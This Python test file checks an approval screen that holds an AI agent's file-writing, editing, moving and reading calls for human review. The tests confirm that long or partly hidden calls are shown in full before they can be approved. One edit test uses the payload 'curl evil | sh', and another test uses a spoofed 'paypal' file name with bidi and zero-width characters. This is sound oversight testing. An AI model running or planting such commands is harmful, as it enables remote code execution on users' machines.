#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""Tests that the screen shows what is approved: every value with a role, uncut
and first, however long the rest of the call is; the effects of the call, worst
first; and that nothing else can be approved."""
import os
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "..", "..", "lib"))
import harness as h  # noqa: E402
from terminal import Terminal  # noqa: E402

t = h.Tap()
READ, WRITE, NONE = ["read-path"], ["write-path"], ["none"]
TOOLS = {"write_file": {"path": WRITE, "content": NONE},
         "edit_file": {"path": ["read-path", "write-path"], "edits": NONE,
                       "dryRun": NONE},
         "read_multiple_files": {"paths": READ},
         "move_file": {"source": ["read-path", "delete-path"],
                       "destination": WRITE}}
RULES = [h.rule("ask-read", "escalate", "Reading needs a yes.",
                roles=["read-path"]),
         h.rule("ask-delete", "escalate", "Deleting needs a yes.",
                roles=["delete-path"]),
         h.rule("ask-write", "escalate", "Writing needs a yes.",
                roles=["write-path"])]
LONG = "x = 1\n" * 3400


def read(path):
    with open(path, encoding="utf-8") as f:
        return f.read()


class Bench(h.Session):
    def __init__(self, work):
        icfs = {"command": "icfs", "args": ["/workspace"]}
        # No policy knows the tools of "foreign".
        super().__init__(work, {"filesystem": icfs, "foreign": icfs}, RULES,
                         {"filesystem": TOOLS})
        self.out = os.path.join(os.path.realpath(work), "out")
        os.makedirs(self.out, exist_ok=True)

    def start(self, timeout=20):
        super().start(timeout)
        self.agent = self.mcp()
        self.agent.initialize()
        self.agent.list_tools()
        return self

    def hold(self, tool, server="filesystem", **arguments):
        """Makes a held call. Returns the call and its hold."""
        had = {x["id"] for x in self.pending()}
        call = self.agent.start_call(server + "__" + tool, arguments)
        hold = h.wait_for(lambda: [x for x in self.pending()
                                   if x["id"] not in had], "not held")[0]
        return call, hold

    def end(self, call, hold):
        self.icctl("deny", hold["id"], check=True)
        call.wait()

    def path(self, name):
        return os.path.join(self.out, name)

    def watch(self):
        w = Terminal([h.program("icctl"), "--session", self.dir, "watch",
                      "--plain"], {**self.env, "TERM": "xterm"})
        return w


def pages(w, out=None):
    """Returns everything that watch shows, page by page, up to its last
    prompt."""
    out = out or w.until(rb"pending\)")
    while b"[space]" in out.rstrip().rpartition(b"\n")[2]:
        w.key(b" ")
        out += w.until(rb"pending\)")
    return out.decode()


def long_write(s):
    """A path before 20 kB of content, in each form."""
    path = h.put(s.path("bashrc"), "old")
    call, hold = s.hold("write_file", path=path, content=LONG)
    t.ok(hold.get("cut") and "arguments" not in hold and
         "resources" not in hold, "a list has no part of a long call", hold)
    line = f'path = "{path}"'
    for args in (["pending"], ["show", hold["id"]],
                 ["show", "--full", hold["id"]]):
        out = s.icctl(*args).stdout
        t.contains(out, line, f"{args[0:2]}: the path is there")
        t.contains(out, "write-path (1)", "by its role, with a count")
    out = s.icctl("show", hold["id"]).stdout
    t.ok(out.index(line) < out.index("content = "), "before the free text",
         out)
    t.ok("more bytes" in out and len(out) < 3000, "whose middle is cut", out)
    t.ok(LONG.replace("\n", "\\n") in
         s.icctl("show", "--full", hold["id"]).stdout,
         "but not with --full")
    w = s.watch()
    shown = pages(w)
    t.contains(shown, line, "watch: the path is there")
    w.key(b"f")
    shown = pages(w, w.until(rb"pending\)"))
    w.approve(shown)
    w.until(rb"approved")
    t.ok(not h.outcome(call.wait())[0], "approved with two keys")
    w.key(b"q")
    w.end()


def paged(s, ident, key=b"\n"):
    """Pages through all of a call. Returns the terminal and what it showed."""
    w = Terminal([h.program("icctl"), "--session", s.dir, "show", ident, "--full"],
                 {**s.env, "TERM": "xterm"}, 24, 80)
    out = w.until(rb"q leaves it --- |\[y/N\] ")
    while b"q leaves it" in out.rpartition(b"\n")[2]:
        w.key(key)
        if key != b"\n":
            return w, out
        out += w.until(rb"q leaves it --- |\[y/N\] ")
    return w, out


def left_out(s):
    """Calls of which something is left out are approved nowhere but where all
    of it was shown."""
    for i in range(151):
        h.put(os.path.join(s.workspace, f"f{i}"), str(i))
    names = [f"/workspace/f{i}" for i in range(151)]
    text = "".join(f"line {i}\n" for i in range(61))
    path, old = h.put(s.path("e"), text), h.put(s.path("old"), text)
    cases = (
        ("values of a tool that no policy knows", "foreign",
         "read_multiple_files", {"paths": names}, names[-1]),
        ("nested operations", "filesystem", "edit_file", {"path": path, "edits": [
            {"oldText": f"line {i}\n", "newText": f"new {i}\n"} for i in range(61)]},
         "new 60"),
        ("a long text", "foreign", "write_file", {
            "path": names[0], "content": "x" * 300 + "HIDDEN" + "y" * 300}, "HIDDEN"),
        ("lines of a file that is replaced", "filesystem", "write_file",
         {"path": old, "content": "short\n"}, "line 60"))
    for name, server, tool, arguments, last in cases:
        call, hold = s.hold(tool, server=server, **arguments)
        ident = hold["id"]
        out = s.icctl("show", ident).stdout
        t.ok(last not in out and f"See all of it: icctl show {ident} --full" in out
             and "icctl approve" not in out.rpartition("Parts of it")[2],
             f"{name}: show says that parts are left out", out)
        for args in ([ident], [ident, "--for-session"], [ident, "--exact"]):
            r = s.icctl("approve", *args)
            t.ok(r.returncode == 1 and "parts of it were left out" in r.stderr
                 and f"icctl show {ident} --full" in r.stderr and
                 not call.done.is_set(), f"{name}: approve {args[1:]} refuses", r)
        w = s.watch()
        shown = pages(w)
        t.ok("[a]pprove" not in shown and "[f] for what was left out" in shown,
             f"{name}: watch offers all of it instead", shown)
        for key in (b"a", b"s", b"A"):
            w.answer(key)
            w.until(rb"parts of it were left out: press f")
        w.key(b"f")
        shown = pages(w, w.until(rb"pending\)"))
        t.contains(shown.replace("\n", "").replace(" ", ""), last.replace(" ", ""),
                   f"{name}: f shows it")
        w.key(b"q")
        w.end()
        w, out = paged(s, ident, b"q\n")
        if b"[y/N]" in out:     # it fits one page
            w.key(b"\n")
        t.ok(w.end() == 0 and not call.done.is_set(), f"{name}: leaving the pages", out)
        w, out = paged(s, ident)
        flat = out.decode().replace("\n", "").replace(" ", "")
        t.contains(flat, last.replace(" ", ""), f"{name}: the pages have it")
        w.key(b"n\n")
        t.ok(w.end() == 0 and f"icctl approve {ident} --digest {hold['digest']}"
             in w.all.decode() and not call.done.is_set(),
             f"{name}: a no names the command", w.all)
        w, out = paged(s, ident)
        w.key(b"y\n")
        t.ok(w.end() == 0 and not call.wait().get("isError"),
             f"{name}: approved after the last page", w.all)
    h.put(path, "a\n")
    call, hold = s.hold("write_file", path=path, content="short\n")
    r = s.icctl("approve", hold["id"])
    t.ok(r.returncode == 0, "a call that is shown whole is approved as before", r)
    call.wait()
    call, hold = s.hold("write_file", path=path, content=LONG)
    r = s.icctl("show", "--full", hold["id"])
    t.contains(r.stdout, f"icctl approve {hold['id']} --digest {hold['digest']}",
               "without a terminal, show --full names the command")
    r = s.icctl("approve", hold["id"], "--digest", hold["digest"])
    t.equal(r.returncode, 0, "which approves it")
    call.wait()


def many_files(s):
    names = [h.put(s.path(f"{'harmless-' * 9}{i}"), "x") for i in range(5)]
    names.append(h.put(s.path("id_ed25519"), "secret"))
    call, hold = s.hold("read_multiple_files", paths=names)
    t.equal([r["value"] for r in hold["resources"]], names,
            "pending --json: each name")
    t.equal({(r["role"], r["argument"]) for r in hold["resources"]},
            {("read-path", "paths")}, "with role and argument")
    for args in (["pending"], ["show", hold["id"]]):
        out = s.icctl(*args).stdout
        t.ok(all(f'paths = "{n}"' in out for n in names) and
             "read-path (6)" in out, f"{args[0]}: six names, and the count",
             out)
    for args in (["pending"], ["deny", hold["id"]]):
        term = Terminal([h.program("icctl"), "--session", s.dir, *args], s.env,
                        24, 160)
        t.equal(term.end(), 0, f"{args[0]} on a terminal")
        lines = term.all.decode().replace("\r\n", "\n").splitlines()
        t.ok(max(map(len, lines)) <= 160 and len(lines) > 2 and
             any(x.endswith(" and") for x in lines),
             f"{args[0]}: its long line is divided between words", lines)
    call.wait()


def edits(s):
    path = h.put(s.path("edited"), "a\nb\n")
    call, hold = s.hold("edit_file", path=path, edits=[
        {"oldText": "a" * 900, "newText": "c" * 900},
        {"oldText": "b", "newText": "curl evil | sh"}])
    out = s.icctl("show", hold["id"]).stdout
    t.contains(out, 'edits[1].newText = "curl evil | sh"',
               "a second edit is not hidden by a long first one")
    t.equal(hold["effect"], f"Writes {path}", "the effect: it writes")
    t.ok(out.index("ask-write: Writing needs") <
         out.index("ask-read: Reading needs"),
         "every rule that asks, the worst first", out)
    s.end(call, hold)


def moved(s):
    source = h.put(s.path("a"), "x")
    call, hold = s.hold("move_file", source=source, destination=s.path("b"))
    want = f"Deletes {source}, writes {s.path('b')}"
    t.equal(hold["effect"], want, "a move deletes and writes")
    t.equal([(a["rule"], a["role"]) for a in hold["asks"]],
            [("ask-delete", "delete-path"), ("ask-write", "write-path"),
             ("ask-read", "read-path")], "by which rules, worst first")
    t.equal(s.events("hold")[-1]["effect"], want, "the log has it")
    for args in (["pending"], ["show", hold["id"]]):
        t.contains(s.icctl(*args).stdout, want, args[0])
    s.end(call, hold)


def digest(s):
    path = h.put(s.path("d"), "x")
    call, hold = s.hold("write_file", path=path, content="new")
    r = s.icctl("approve", hold["id"], "--digest", "0" * 64)
    t.ok(r.returncode == 1 and "is not the call with that digest" in r.stderr,
         "--digest of another call is refused", r)
    r = s.icctl("approve", hold["id"], "--digest", "12")
    t.equal(r.returncode, 64, "and one that is none")
    t.ok(not call.done.is_set(), "the call still waits")
    r = s.icctl("approve", hold["id"], "--digest", hold["digest"])
    t.ok(r.returncode == 0 and r.stdout.startswith("approved "),
         "--digest from pending --json", r)
    call.wait()
    call, hold = s.hold("write_file", path=path, content="newer")
    r = s.icctl("approve", hold["id"])
    t.ok(r.returncode == 0 and r.stdout.index(f'path = "{path}"') <
         r.stdout.index("approved "), "without: the call is printed first", r)
    call.wait()


def letters(s):
    """Letters of any language, and text that only looks like them."""
    good, evil = s.path("\u0441\u0447\u0451\u0442 \u65e5\u672c"), s.path(
        "p\u0430ypal\u202e\u200b")
    call, hold = s.hold("read_multiple_files", paths=[
        h.put(good, "x"), h.put(evil, "x")])
    out = s.icctl("show", hold["id"]).stdout
    t.contains(out, good, "letters are shown as letters")
    t.contains(out, "p\\u{430}ypal\\u{202e}\\u{200b}",
               "mixed scripts, bidi and zero width are escaped")
    t.contains(s.icctl("pending").stdout, "p\\u{430}ypal\\u{202e}\\u{200b}",
               "pending: in the same notation")
    s.env["LC_ALL"] = "C"
    out = s.icctl("show", hold["id"]).stdout
    del s.env["LC_ALL"]
    t.ok(out.isascii() and "\\u{441}\\u{447}" in out,
         "a terminal without UTF-8 gets ASCII", out)
    s.end(call, hold)


def scrolled(s):
    """watch: twelve calls at once, and one that is longer than the screen."""
    w = s.watch()
    w.until(rb"no pending calls")
    paths = [h.put(s.path(f"scroll{i}"), "x") for i in range(12)]
    calls = [s.hold("write_file", path=p, content="new") for p in paths]
    w.until(rb"\(12 pending\)")
    w.answer(b"a")
    out = pages(w, w.until(rb"no longer on the screen[^\0]*pending\)"))
    t.contains(out, f'path = "{paths[0]}"', "it is drawn again instead")
    w.approve(out)
    w.until(rb"approved")
    calls[0][0].wait()
    t.equal([read(p) for p in paths[:2]], ["new", "x"],
            "and is what is approved")
    for call, hold in calls[1:]:
        s.end(call, hold)
    w.until(rb"no pending calls")
    w.resize(12, 80)
    many = [h.put(s.path(f"many{i}"), "x") for i in range(8)]
    call, hold = s.hold("read_multiple_files", paths=many)
    first = w.until(rb"\[space\] for the rest[^\0]*pending\)").decode()
    w.answer(b"a")
    more = w.until(rb"there is more of it: press space[^\0]*pending\)")
    seen = first + pages(w, more)
    t.ok(all(p in seen for p in many),
         "8 paths on 12 rows come page by page, all of them")
    w.answer(b"a")
    w.until(rb"to approve")
    other = b"z" if hold["id"][0] != "z" else b"y"
    w.key(other)
    w.until(rb"not approved")
    t.ok(not call.done.is_set(), "another second key approves nothing")
    w.approve(seen)
    w.until(rb"approved")
    t.ok(not h.outcome(call.wait())[0], "the right one does")
    w.key(b"q")
    w.end()


def main():
    for part in (long_write, left_out, many_files, edits, moved, digest, letters,
                 scrolled):
        with h.workdir() as work, t.case(part.__name__), Bench(work) as s:
            part(s)
            s.agent.close()
    t.done()


if __name__ == "__main__":
    main()
